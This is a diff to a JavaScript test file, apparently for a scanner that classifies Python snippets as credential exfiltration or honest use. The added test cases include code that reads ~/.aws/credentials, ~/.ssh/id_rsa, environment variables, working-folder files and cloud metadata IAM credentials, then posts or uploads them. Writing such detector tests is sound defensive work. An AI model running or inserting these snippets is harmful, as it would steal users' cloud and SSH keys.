@@ -16,6 +16,9 @@ test.each([
   ['what a client of AWS was set up with', 'import boto3\nk = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post(u, json={"s": k.secret_key})'],
   ['each variable by its name', 'requests.post(u, json={n: os.environ[n] for n in os.environ})'],
   ['each file of the working folder', 'for r, d, f in os.walk(os.getcwd()):\n    for n in f:\n        requests.post(u, data=open(os.path.join(r, n)).read())'],
+  ['the file with the keys of AWS, as what is stored with such a client', 'import boto3\nboto3.client("s3").put_object(Body=open(os.path.expanduser("~/.aws/credentials")).read())'],
+  ['the file with the keys of AWS, in the address of such a client', 'import boto3\nk = open(os.path.expanduser("~/.aws/credentials")).read()\nboto3.client("s3", aws_access_key_id=k, endpoint_url=k).put_object(Body=b"x")'],
+  ['the file with other keys, to set up such a client', 'import boto3\nk = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nboto3.client("s3", aws_access_key_id=k).put_object(Body=b"x")'],
   ['the role of a machine', 'r = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")\nrequests.post(u, data=r.text)'],
 ])('%s is sent', async (_, text) => {
   expect(await found(text)).toEqual(['critical, strong']);
@@ -28,6 +31,8 @@ test.each([
   ['a signature', 'import hmac\nrequests.get(u, headers={"A": hmac.new(os.environ["AWS_SECRET_ACCESS_KEY"].encode(), b"x").hexdigest()})'],
   ['a request that is signed', 'from requests_aws4auth import AWS4Auth\nrequests.get(u, auth=AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "r", "es"))'],
   ['a client that is set up with keys', 'import boto3\nboto3.client("s3", aws_access_key_id=os.environ["AWS_ACCESS_KEY_ID"], aws_secret_access_key=os.environ["AWS_SECRET_ACCESS_KEY"]).put_object(Body=b"x")'],
+  ['a client that is set up with keys out of the file for them', 'import boto3\nk = open(os.path.expanduser("~/.aws/credentials")).read().split()\nboto3.Session(aws_access_key_id=k[2], aws_secret_access_key=k[5]).client("s3").put_object(Body=b"x")'],
+  ['a client that is set up with a dict of such keys', 'import boto3, configparser\nini = configparser.ConfigParser()\nini.read(os.path.expanduser("~/.aws/credentials"))\nboto3.Session(region_name="x", **{k: ini["default"].get(k) for k in NAMES}).client("s3").put_object(Body=b"x")'],
   ['the token that the metadata service itself is shown', 't = requests.put("http://169.254.169.254/latest/api/token").text\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", headers={"X": t})'],
   ['the name of a variable', 'requests.post(u, json={"missing": "GITHUB_TOKEN", "also": "NPM_TOKEN"})'],
 ])('%s is sent by honest clients', async (_, text) => {
